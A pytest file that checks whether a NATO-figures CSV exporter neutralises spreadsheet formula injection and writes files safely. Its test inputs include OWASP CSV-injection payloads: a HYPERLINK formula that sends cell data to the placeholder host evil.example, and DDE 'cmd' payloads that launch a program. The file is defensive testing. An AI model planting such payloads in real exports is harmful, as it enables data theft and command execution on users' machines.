"""CSV export (test plan T11): no cell runs as a formula, numbers stay numbers,
and a failed write leaves the old file and no temporary file."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nato_desk.domain import Observation, Source
from nato_desk.export import (
    FORMULA_TRIGGERS,
    OBSERVATION_COLUMNS,
    csv_text,
    neutralize,
    write_observations_csv,
)
from nato_desk.ingest import load_seed, seed_folder

TRIGGERS = (*FORMULA_TRIGGERS, "\x00")
assert set(TRIGGERS) >= {"=", "+", "-", "@", "\t", "\r", "\n", "\x00"}

# Text that starts with every trigger far more often than st.text() would.
_RISKY = st.builds(lambda a, b: a + b, st.sampled_from(["", *TRIGGERS, "\x00=", "\x00\x00+"]),
                   st.text())
CELL = st.one_of(st.text(), _RISKY, st.none(), st.integers(),
                 st.floats(allow_nan=False, allow_infinity=False))


def read_back(text: str) -> list[list[str | float]]:
    """QUOTE_NONNUMERIC on reading: unquoted cells come back as floats, quoted as str."""
    return list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))


# 500 examples: every trigger is drawn first far more often than plain text would
# (_RISKY), so they are all met many times over; 2,000 cost 6 s of the suite (issue 14).
@settings(max_examples=500, deadline=None, database=None)
@given(st.lists(st.lists(CELL, min_size=1, max_size=6), min_size=1, max_size=4))
def test_round_trip_has_no_formula_and_keeps_numbers(rows):
    text = csv_text(rows)
    back = read_back(text)
    plain = list(csv.reader(io.StringIO(text, newline="")))
    assert len(back) == len(plain) == len(rows)
    for row, got, got_plain in zip(rows, back, plain):
        assert len(got) == len(row)  # no separator or quote started a new cell
        for cell, out, out_plain in zip(row, got, got_plain):
            if isinstance(cell, str):
                assert isinstance(out, str) and not out.startswith(TRIGGERS)
                assert out == neutralize(cell) and "\x00" not in out
                assert out.lstrip("'") == cell.replace("\x00", "").lstrip("'")
            elif cell is None:
                assert out == ""
            else:  # a number: written bare (unquoted), exactly as Python prints it
                assert isinstance(out, float) and out_plain == repr(cell)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        # OWASP "CSV Injection": both examples of wrapping, prefixing and doubling quotes.
        ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
        ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
        # Its attack examples and the other triggers.
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
         '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"'),
        ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
        ("+1+1", "\"'+1+1\""),
        ("-2+3", "\"'-2+3\""),
        ("-0.5", "\"'-0.5\""),  # text that looks like a number is still text
        ("\t=1+1", "\"'\t=1+1\""),
        ("\r=1+1", "\"'\r=1+1\""),
        ("\n=1+1", "\"'\n=1+1\""),
        ("\x00=1+1", "\"'=1+1\""),  # NUL dropped, and what it hid neutralised
        ("a=1+1", '"a=1+1"'),
        ("Türkiye", '"Türkiye"'),
        ("", '""'),
    ],
)
def test_owasp_examples(cell, written):
    assert csv_text([[cell]]) == written + "\r\n"


def test_numbers_are_written_bare_and_never_neutralised():
    assert csv_text([[-0.5, 2.15, 0, 2025, None, "x"]]) == '-0.5,2.15,0,2025,"","x"\r\n'


@pytest.fixture(scope="module")
def seed():
    return load_seed(seed_folder())


def read_file(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_export_of_spains_figures_reads_back_exactly(tmp_path, seed):
    spain = [r for r in seed if isinstance(r, Observation) and r.iso3 == "ESP"]
    sources = [r for r in seed if isinstance(r, Source)]
    titles = {s.id: s.cite_title or s.title for s in sources}  # the original's title
    path = tmp_path / "spain.csv"
    assert write_observations_csv(path, spain, sources) == len(spain) > 20
    rows = read_file(path)
    assert tuple(rows[0]) == OBSERVATION_COLUMNS
    assert len(rows) == len(spain)
    for obs, row in zip(spain, rows):
        assert (row["iso3"], int(row["year"]), row["measure"], row["status"], row["edition"],
                row["source_id"], row["note"]) == (obs.iso3, obs.year, obs.measure.value,
                                                   obs.status.value, obs.edition, obs.source_id,
                                                   neutralize(obs.note))
        assert row["source_title"] == neutralize(titles[obs.source_id])
        if obs.value is None:
            assert row["value"] == ""
        else:
            # At the published precision: NATO's 2024 workbook cells are stored unrounded.
            assert row["value"] == f"{obs.value:.{obs.decimals}f}"
        # A negative number (a real change) is a number, not a formula; every text cell is guarded.
        assert not any(cell.startswith(TRIGGERS) for key, cell in row.items() if key != "value")
    assert {"2025-08", "2026-07"} <= {r["edition"] for r in rows}
    assert os.listdir(tmp_path) == ["spain.csv"]
    # Figures read in a GitHub transcription name NATO's table, never the repository.
    t3 = next(r for r in rows if r["source_id"] == "GH_NATOANALYTICS_T3")
    assert t3["source_title"].startswith("Defence Expenditure of NATO Countries (2014-2025), Table 3")
    assert not any("github" in r["source_title"].lower() or "cannoli" in r["source_title"]
                   for r in rows)


def test_hostile_text_in_a_figure_is_neutralised(tmp_path, seed):
    obs = next(r for r in seed if isinstance(r, Observation) and r.iso3 == "ESP")
    evil = dataclasses.replace(obs, note='=HYPERLINK("http://evil.example","x")',
                               source_id="EVIL")
    source = Source("EVIL", "@SUM(1+1)*cmd|' /C calc'!A0")
    write_observations_csv(tmp_path / "x.csv", [evil], [source])
    (row,) = read_file(tmp_path / "x.csv")
    assert row["note"] == '\'=HYPERLINK("http://evil.example","x")'
    assert row["source_title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("failing", ["fsync", "replace"])
def test_a_failed_write_keeps_the_old_file_and_leaves_no_temp(tmp_path, seed, monkeypatch, failing):
    spain = [r for r in seed if isinstance(r, Observation) and r.iso3 == "ESP"]
    path = tmp_path / "spain.csv"
    path.write_text("old\n")

    def fail(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, failing, fail)
    with pytest.raises(OSError, match="no space left on device"):
        write_observations_csv(path, spain, [])
    monkeypatch.undo()
    assert path.read_text() == "old\n"
    assert os.listdir(tmp_path) == ["spain.csv"]
    write_observations_csv(path, spain, [])  # and a retry succeeds
    assert len(read_file(path)) == len(spain)
